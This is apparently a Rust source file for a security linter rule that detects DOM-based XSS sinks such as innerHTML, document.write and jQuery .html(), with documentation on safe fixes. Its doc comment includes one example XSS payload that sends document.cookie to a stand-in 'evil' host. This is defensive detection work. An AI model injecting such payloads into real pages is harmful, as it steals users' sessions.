use super::taint::{self, Html};
use crate::lang::js::{self, JsCx};
use crate::lang::NodeExt;
use tree_sitter::Node;

crate::declare_rule! {
    /// ## What it does
    /// Flags DOM sinks that parse HTML when they receive markup built from non-constant values
    /// or a value read from the URL/request: assignments to `innerHTML`, `outerHTML` and
    /// `srcdoc` (also `+=`), `insertAdjacentHTML`, `document.write`/`writeln`, and jQuery
    /// `.html(x)`, `.append/.prepend/.before/.after/.replaceWith(htmlString)` and `$(htmlString)`.
    /// Strings built into a local first are followed within the function, including
    /// `items.map(i => `<li>${i.name}</li>`).join("")`.
    ///
    /// ## Why is this bad?
    /// Whatever reaches these sinks is parsed as HTML: a name like
    /// `<img src=x onerror=fetch('//evil/'+document.cookie)>` runs script in the page (DOM-based
    /// XSS, OWASP A03:2021), with the user's session.
    ///
    /// ## Example
    /// ```js
    /// list.innerHTML = `<li>${comment.author}: ${comment.text}</li>`;
    /// ```
    ///
    /// ## Use instead
    /// ```js
    /// const li = document.createElement("li");
    /// li.textContent = `${comment.author}: ${comment.text}`;
    /// list.append(li);
    /// // or, when markup is required:
    /// list.innerHTML = DOMPurify.sanitize(html);
    /// ```
    ///
    /// ## How to fix
    /// Build nodes with `textContent`/`createElement`/`append`, or a framework's escaping
    /// templates. When the content really is HTML, sanitize it with `DOMPurify.sanitize()` or
    /// escape each value (`escapeHtml(x)`) before interpolating.
    ///
    /// ## Not flagged
    /// Constant markup, numbers (`${items.length}`), values passed through a function whose name
    /// says it escapes or sanitizes (`DOMPurify.sanitize`, `escapeHtml`, `sanitize`, `encode`),
    /// `textContent`/`innerText`, plain variables whose origin is not visible (the rule does not
    /// guess), and test code.
    ///
    /// ## References
    /// - CWE-79: Improper Neutralization of Input During Web Page Generation
    /// - OWASP DOM based XSS Prevention Cheat Sheet
    pub INNER_HTML_SINK {
        id: "inner-html-sink",
        title: "Non-constant HTML written to a DOM sink",
        severity: Medium,
        confidence: Medium,
        cwe: [79],
        checklist: 7,
        languages: [JavaScript, TypeScript],
        fix: None,
    }
}

const HELP: &str = "set textContent or build elements with createElement/append; if markup is required, sanitize it first: el.innerHTML = DOMPurify.sanitize(html)";

fn report(cx: &mut JsCx<'_, '_>, value: Node<'_>, sink: &str, h: Html, need_markup: bool) {
    if taint::markdown_render(cx.src, value) {
        cx.report(
            &INNER_HTML_SINK,
            value.byte_range(),
            format!("Markdown rendered to raw HTML is written to `{sink}`"),
        )
        .help("sanitize the rendered HTML (DOMPurify.sanitize(marked.parse(text))) or disable raw HTML in the Markdown renderer")
        .confidence(crate::meta::Confidence::Low);
        return;
    }
    if need_markup && matches!(h, Html::Dynamic { .. }) && !h.looks_like_html() {
        return;
    }
    let Some(mut v) = taint::verdict(&h) else {
        return;
    };
    // jQuery element creation from a plugin's own options is common; rank it lower.
    if need_markup && matches!(h, Html::Dynamic { .. }) {
        v.confidence = crate::meta::Confidence::Low;
    }
    let msg = format!("{} is written to `{sink}`", v.what);
    taint::emit(cx.file, &INNER_HTML_SINK, value.byte_range(), msg, HELP, &v);
}

/// `$(..).html(x)`, `$el.html(x)`, `jQuery(..).find(..).append(x)`.
fn is_jquery_receiver(src: &str, mut obj: Node<'_>) -> bool {
    for _ in 0..16 {
        match obj.k() {
            "identifier" => {
                let t = js::node_text(src, obj);
                return t.starts_with('$') && t.len() > 1;
            }
            "member_expression" => {
                // this.$el / self.$container
                let Some(p) = obj.field("property") else {
                    return false;
                };
                return js::node_text(src, p).starts_with('$');
            }
            "call_expression" => {
                let Some(f) = obj.field("function") else {
                    return false;
                };
                if f.k() == "identifier" {
                    return matches!(js::node_text(src, f), "$" | "jQuery");
                }
                if f.k() != "member_expression" {
                    return false;
                }
                let Some(o) = f.field("object") else {
                    return false;
                };
                obj = o;
            }
            "parenthesized_expression" => match obj.named_child(0) {
                Some(i) => obj = i,
                None => return false,
            },
            _ => return false,
        }
    }
    false
}

/// The nodes [`check_js`] is called on.
pub(crate) const JS_ON: crate::lang::On = crate::lang::On::Kinds(&[
    "program",
    "assignment_expression",
    "augmented_assignment_expression",
    "call_expression",
]);

pub(crate) fn check_js(cx: &mut JsCx<'_, '_>, node: Node<'_>) {
    if node.k() == "program" {
        taint::note_generated(cx);
        return;
    }
    if taint::is_generated() {
        return;
    }
    if cx.file.is_test {
        return;
    }
    let src = cx.src;
    match node.k() {
        "assignment_expression" | "augmented_assignment_expression" => {
            let (Some(l), Some(r)) = (node.field("left"), node.field("right")) else {
                return;
            };
            if l.k() != "member_expression" {
                return;
            }
            let Some(prop) = l.field("property").map(|p| js::node_text(src, p)) else {
                return;
            };
            if !matches!(prop, "innerHTML" | "outerHTML" | "srcdoc") {
                return;
            }
            let h = taint::js(src, r);
            report(cx, r, prop, h, false);
        }
        "call_expression" => {
            let Some(f) = node.field("function") else {
                return;
            };
            let args = js::call_args(node);
            if f.k() == "identifier" {
                // $("<div>" + name + "</div>")
                if matches!(js::node_text(src, f), "$" | "jQuery") {
                    if let Some(a) = args.first() {
                        let h = taint::js(src, *a);
                        report(cx, *a, "$()", h, true);
                    }
                }
                return;
            }
            if f.k() != "member_expression" {
                return;
            }
            let Some(name) = js::callee_name(src, node) else {
                return;
            };
            let path = js::member_path(src, f).unwrap_or_default();
            match name {
                "insertAdjacentHTML" => {
                    if let Some(a) = args.get(1) {
                        let h = taint::js(src, *a);
                        report(cx, *a, "insertAdjacentHTML", h, false);
                    }
                }
                "write" | "writeln"
                    if path == "document.write"
                        || path == "document.writeln"
                        || path.ends_with(".document.write")
                        || path.ends_with(".document.writeln") =>
                {
                    if let Some(a) = args.first() {
                        let h = taint::js(src, *a);
                        report(cx, *a, &format!("document.{name}"), h, false);
                    }
                }
                "html" | "append" | "prepend" | "before" | "after" | "replaceWith" | "wrap"
                | "wrapAll" | "wrapInner" => {
                    let Some(obj) = f.field("object") else {
                        return;
                    };
                    if args.len() != 1 || !is_jquery_receiver(src, obj) {
                        return;
                    }
                    let h = taint::js(src, args[0]);
                    report(cx, args[0], &format!(".{name}()"), h, name != "html");
                }
                _ => {}
            }
        }
        _ => {}
    }
}
